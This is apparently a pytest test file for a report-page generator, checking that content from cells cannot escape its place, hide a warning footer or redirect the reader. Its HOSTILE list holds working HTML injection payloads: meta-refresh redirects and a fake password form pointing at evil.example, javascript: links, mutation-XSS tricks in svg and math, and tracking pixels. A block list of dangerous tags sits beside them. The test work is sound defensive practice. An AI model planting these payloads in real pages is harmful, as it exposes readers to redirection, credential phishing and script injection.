"""A report's page against what its cells put out: nothing may leave its place, hide a warning or lead a reader away."""

import functools

import pytest
from bs4 import BeautifulSoup

import real_chromium
from report_pages import AROUND, READ, cell, make_job, write

NEVER = "script style base form input iframe object embed svg math plaintext textarea".split()
CANARY = "the words of the cell"
HOSTILE = [
    f"</main></body></html><meta http-equiv='refresh' content='0;url=https://evil.example'>{CANARY}",
    f"<!--><meta http-equiv='refresh' content='0;url=https://evil.example'>-->{CANARY}",
    f"<base href='https://evil.example/'>{CANARY}",
    f"<style>footer {{ display: none }}</style>{CANARY}",
    f"<p style='position: fixed; inset: 0; background: url(https://evil.example/x)'>{CANARY}</p>",
    f"{CANARY}<plaintext>",
    f"{CANARY}<textarea><template><noscript><xmp>",
    f"{CANARY}<details><summary>more",
    f"<svg><style>footer {{ display: none }}</style><script>alert(1)</script></svg>{CANARY}",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;script&gt;x&lt;/script&gt;'></math>{CANARY}",
    f"<form action='https://evil.example'><input name='password'><button>Log in</button></form>{CANARY}",
    f"<a href='javascript:alert(1)' onclick='alert(1)'>{CANARY}</a>",
    f"<a href=' JaVaScRiPt:alert(1)'>{CANARY}</a>",
    f"<iframe src='https://evil.example'></iframe><object data='x'></object><embed src='x'>{CANARY}",
    f"<img src='https://evil.example/pixel.png'><img src='//evil.example/x' srcset='https://evil.example/y'>{CANARY}",
    f"<p id='sources' class='skip'>{CANARY}</p><div id='report'></div>",
    f"<table><tr><td>{CANARY}</main>",
    f"<![CDATA[<script>alert(1)</script>]]><?php evil ?><!DOCTYPE evil>{CANARY}",
]


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """Every attack on a page of its own, as HTML and as markdown, with a warning that should stay."""

    @functools.cache
    def page(number, kind):
        job = make_job(tmp_path_factory.mktemp("hostile") / "job")
        return write(job, cell(HOSTILE[number], kind), noted=(READ, AROUND)).read_text(encoding="utf-8")

    return page


@pytest.mark.parametrize("number", range(len(HOSTILE)))
@pytest.mark.parametrize("kind", ["text/html", "text/markdown"])
def test_what_a_cell_puts_out_stays_in_its_place(pages, number, kind):
    text = pages(number, kind)
    page = BeautifulSoup(text, "html.parser")
    assert CANARY in page.main.get_text()
    assert len(page.find_all("meta", attrs={"http-equiv": True})) == 1
    never = [
        "script",
        "style",
        "base",
        "form",
        "input",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "plaintext",
        "textarea",
    ]
    assert not page.body.find_all(never)
    assert [tag.name for tag in page.body.find_all(["header", "main", "footer"])] == ["header", "main", "footer"]
    assert page.footer.find("section", class_="warning")
    assert len(page.find_all(id="sources")) == len(page.find_all(id="report")) == 1
    links = [link["href"] for link in page.main.find_all("a", href=True)]
    assert not [link for link in links if "javascript" in link.lower()]
    assert not [tag for tag in page.main.find_all(True) if any(name.startswith("on") for name in tag.attrs)]
    assert "position" not in str(page.main)
    assert "<!--" not in text.partition("<main")[2]


@pytest.mark.browser
def test_a_browser_sees_the_same_page_and_goes_nowhere(pages, tmp_path):
    """What Python's parser takes for harmless may not be so for a browser: Chromium has the last word."""
    asked = []
    with real_chromium.opened() as browser:
        tab = browser.new_page()
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
        for number in range(len(HOSTILE)):
            file = tmp_path / f"{number}.html"
            file.write_text(pages(number, "text/html"), encoding="utf-8")
            tab.goto(file.as_uri())
            assert CANARY in tab.locator("main").inner_text(), HOSTILE[number]
            assert tab.locator("main").count() == tab.locator("body > footer").count() == 1, HOSTILE[number]
            assert tab.locator("footer section.warning").is_visible(), HOSTILE[number]
            assert tab.url == file.as_uri()
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []


def test_titles_of_what_was_read_are_text(tmp_path):
    hostile = READ | {"title": "<script>alert(1)</script>", "publisher": "</table><h1>x", "version": "<b>1"}
    page = BeautifulSoup(
        write(make_job(tmp_path / "job"), "## Air", noted=(hostile,)).read_text(encoding="utf-8"), "html.parser"
    )
    assert page.footer.table.tbody.th.get_text() == "<script>alert(1)</script>"
    assert len(page.find_all("h1")) == 1
    assert not page.find_all(["script", "b"])
